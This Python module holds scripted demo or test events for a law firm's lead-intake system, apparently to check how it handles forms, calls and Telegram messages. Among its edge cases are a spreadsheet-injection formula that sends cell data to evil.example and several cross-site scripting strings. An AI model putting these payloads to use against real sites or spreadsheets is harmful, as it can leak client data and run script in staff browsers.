"""The morning, until the lunch break."""

from onebox.demo.acts import OWNER, Broken, Edit, Form, Ring, Story, Update, Wave
from onebox.demo.cast import (
    ANNA,
    ARTEM,
    BORIS,
    DIALLED,
    DIMA,
    DMITRI,
    FORGED,
    FORMULA,
    FOX,
    GLEB,
    GLEB_OWN,
    IRINA,
    LEILA,
    LONG,
    LONG_NAME,
    MARIA,
    MISSED,
    OLEG,
    ROMAN,
    RUSLAN,
    SCRIPT,
    STRANGER,
    TALK,
    TIMUR,
    VERA,
    VIKTOR,
)

MORNING = (
    Wave(
        "08:32",
        (
            Story(
                "Мария заполнила форму на сайте: развод и раздел квартиры",
                "Maria fills in the form on the site: a divorce and a flat to divide",
                (
                    Form(
                        {
                            "name": "Мария Кузнецова",
                            "phone": "8 (900) 555-01-01",
                            "message": "Муж подал на развод, квартира куплена в браке. Что делать?",
                        }
                    ),
                ),
            ),
            Story(
                "Артём написал боту; Telegram доставил сообщение дважды",
                "Artyom writes to the bot; Telegram delivers the message twice",
                (
                    Update(
                        1,
                        ARTEM,
                        "Здравствуйте! Кредит закрыт в мае, а банк снова начисляет проценты.",
                        times=2,
                    ),
                ),
            ),
            Story(
                "Ирина пришла с рекламы: наследство в другом городе",
                "Irina comes from an advertisement: an inheritance in another town",
                (
                    Form(
                        {
                            "name": "Ирина Шевцова",
                            "phone": "+7 900 555-01-02",
                            "email": "irina@mail.example",
                            "message": "Бабушка оставила дом в Твери, срок вступления истекает.",
                            "utm_source": "yandex",
                            "utm_campaign": "nasledstvo_nov",
                        },
                        "json",
                    ),
                ),
            ),
        ),
    ),
    Wave(
        "09:02",
        (
            Story(
                "Звонит Олег, отвечает Анна; станция сообщила о конце звонка дважды",
                "Oleg calls, Anna answers; the exchange reports the end of the call twice",
                (Ring("c01", OLEG, (*TALK, "ended"), talked_s=190, staff=ANNA),),
            ),
            Story(
                "Светлана нажала «Отправить» дважды",
                "Svetlana clicks «Send» twice",
                (
                    Form(
                        {
                            "name": "Светлана Рыбина",
                            "phone": "9005550104",
                            "message": "Затопили соседи сверху, управляющая компания молчит.",
                        },
                        times=2,
                    ),
                ),
            ),
            Story(
                "Тимур не дозвонился: нужно перезвонить",
                "Timur gets no answer: somebody must call back",
                (Ring("c02", TIMUR, MISSED, rang_s=31),),
            ),
            Story(
                "Павел прислал форму со старого сайта: авария, спор со страховой",
                "Pavel sends a form from the old site: an accident, a quarrel with the insurer",
                (
                    Form(
                        {
                            "Имя": "Павел Дроздов",
                            "Телефон": "+7(900)555-01-06",
                            "Комментарий": "ДТП 14 ноября, страховая занизила выплату вдвое.",
                            "Марка машины": "Лада Веста",
                        },
                        "multipart",
                    ),
                ),
            ),
        ),
    ),
    Wave(
        "09:19",
        (
            Story(
                "Борис перезвонил Тимуру: поговорили, задача закрылась сама",
                "Boris calls Timur back: they talk, the task closes by itself",
                (Ring("c03", TIMUR, TALK, 9, 145, "out", BORIS),),
            ),
            Story(
                "Анна набрала Марии: 25 секунд без ответа, попытка засчитана",
                "Anna dials Maria: 25 seconds without an answer, the attempt counts",
                (Ring("c04", MARIA, DIALLED, 25, 0, "out", ANNA),),
            ),
            Story(
                "События звонка Руслана пришли задом наперёд",
                "The events of Ruslan's call arrive backwards",
                (Ring("c05", RUSLAN, TALK[::-1], 6, 95, "in", GLEB),),
            ),
        ),
    ),
    Wave(
        "09:45",
        (
            Story(
                "Кто-то прислал формулу вместо имени",
                "Somebody sends a formula instead of a name",
                (
                    Form(
                        {
                            "name": '=IMPORTXML("http://evil.example/?"&A1;"//a")',
                            "phone": FORMULA,
                            "message": '=HYPERLINK("http://evil.example";"Счёт")',
                        },
                        "json",
                    ),
                ),
            ),
            Story(
                "Кто-то прислал код вместо имени",
                "Somebody sends a script instead of a name",
                (
                    Form(
                        {
                            "name": "<script>alert('x')</script>",
                            "phone": SCRIPT,
                            "message": '"><img src=x onerror=alert(1)> & <b>срочно</b>',
                        }
                    ),
                ),
            ),
            Story(
                "Имя из эмодзи, невидимых знаков и письма справа налево",
                "A name of emoji, invisible characters and right-to-left script",
                (Update(2, FOX, "Нужен брачный договор 💍\u200f — שלום, срочно‼️"),),
            ),
            Story(
                "Имя в десять тысяч знаков",
                "A name of ten thousand characters",
                (
                    Form(
                        {"name": LONG_NAME, "phone": LONG, "message": "Проверка длинного имени."},
                        "json",
                    ),
                ),
            ),
        ),
    ),
    Wave(
        "10:20",
        (
            Story(
                "Дмитрий оставил заявку на сайте…",
                "Dmitri leaves a request on the site…",
                (
                    Form(
                        {
                            "name": "Дмитрий Воронов",
                            "phone": "8-900-555-01-08",
                            "email": "D.Voronov@mail.example",
                            "message": "Работодатель не выплатил отпускные при увольнении.",
                        }
                    ),
                ),
            ),
            Story(
                "…сразу позвонил: ответила Вера…",
                "…calls at once: Vera answers…",
                (Ring("c06", DMITRI, TALK, 5, 130, "in", VERA),),
            ),
            Story(
                "…и прислал боту свой номер. Это один клиент и одна заявка",
                "…and shares his number with the bot. One client, one request",
                (
                    Update(
                        4,
                        DIMA,
                        content={
                            "contact": {
                                "phone_number": "79005550108",
                                "user_id": DIMA.id,
                                "first_name": "Дмитрий",
                            }
                        },
                    ),
                    Update(3, DIMA, "Я вам звонил, вот трудовой договор."),
                ),
            ),
            Story(
                "Виктор передал заявку Марии Борису",
                "Viktor hands Maria's request to Boris",
                (Edit(VIKTOR, MARIA, "owner", "Борис Ким"),),
            ),
        ),
    ),
)

NOON = (
    Wave(
        "11:05",
        (
            Story(
                "Ирину хотят сделать сделкой без звонка: таблица возвращает стадию и объясняет",
                "Irina is declared a deal without a call: the sheet takes it back and says why",
                (Edit(OWNER, IRINA, "stage", "Качественный → сделка", refused=True),),
            ),
            Story(
                "Заметка после разговора с Олегом",
                "A note after the talk with Oleg",
                (Edit(OWNER, OLEG, "note", "Ждёт список документов, перезвонить после обеда."),),
            ),
            Story(
                "Тимур назвался: имя вместо номера",
                "Timur has a name now instead of a number",
                (Edit(OWNER, TIMUR, "name", "Тимур Алиев"),),
            ),
            Story(
                "Борис снова набрал Марии: без ответа",
                "Boris dials Maria again: no answer",
                (Ring("c07", MARIA, DIALLED, 22, 0, "out", BORIS),),
            ),
        ),
    ),
    Wave(
        "11:35",
        (
            Story(
                "Третья попытка: Мария переходит на «Повторный звонок · 1 день»",
                "The third attempt: Maria moves to «Call again · 1 day»",
                (Ring("c08", MARIA, DIALLED, 28, 0, "out", BORIS),),
            ),
            Story(
                "Вера дозвонилась Ирине: теперь стадия меняется сама",
                "Vera reaches Irina: now the stage changes by itself",
                (Ring("c09", IRINA, TALK, 7, 260, "out", VERA),),
            ),
            Story(
                "Глеб позвонил в офис со своего телефона: это не клиент",
                "Gleb calls the office from his own phone: he is no client",
                (Ring("c10", GLEB_OWN, MISSED, 12),),
            ),
            Story(
                "Две секунды разговора с незнакомцем: не заявка",
                "Two seconds of talk with a stranger: no request",
                (Ring("c11", STRANGER, TALK, 3, 2, "in", ANNA),),
            ),
            Story(
                "Подделанный звонок: подпись неверна, дверь закрыта",
                "A forged call: the signature is wrong, the door stays shut",
                (Ring("c12", FORGED, ("missed",), 20, forged=True),),
            ),
            Story(
                "Станция прислала обрывок: сохранён как неразобранное",
                "The exchange sends a scrap: it is kept among what nobody understood",
                (Broken(b'{"id": "c13", "event": "ended", "direction": "in", "client": "+7900'),),
            ),
            Story(
                "Форма без телефона и почты: посетителя просят дополнить",
                "A form without phone and mail: the visitor is asked to complete it",
                (Form({"name": "Аноним", "message": "Перезвоните!"}, "json", status=422),),
            ),
        ),
    ),
    Wave(
        "12:40",
        (
            Story(
                "Артём прислал голосовое и поправил первое сообщение",
                "Artyom sends a voice message and corrects his first one",
                (
                    Update(
                        5,
                        ARTEM,
                        content={"voice": {"file_id": "v1", "file_size": 48_213, "duration": 21}},
                    ),
                    Update(6, ARTEM, "Кредит закрыт в июне, не в мае.", kind="edited_message"),
                ),
            ),
            Story(
                "Лейла прислала фото договора",
                "Leila sends a photo of a contract",
                (
                    Update(
                        7,
                        LEILA,
                        content={
                            "caption": "Проверьте договор аренды, подписываем завтра",
                            "photo": [{"file_id": "p1", "file_size": 90_112}],
                        },
                    ),
                ),
            ),
            Story(
                "Telegram прислал обновление неизвестного вида: сохранено",
                "Telegram sends an update of an unknown kind: it is kept",
                (Update(8, content={"story_question": {"id": "55", "text": "Вы работаете?"}}),),
            ),
            Story(
                "Бота добавили в чужую группу: не заявка",
                "The bot is added to somebody's group: no request",
                (
                    Update(
                        9,
                        ROMAN,
                        "Всем привет!",
                        content={"chat": {"id": -100_200_300, "type": "supergroup"}},
                    ),
                ),
            ),
        ),
    ),
)
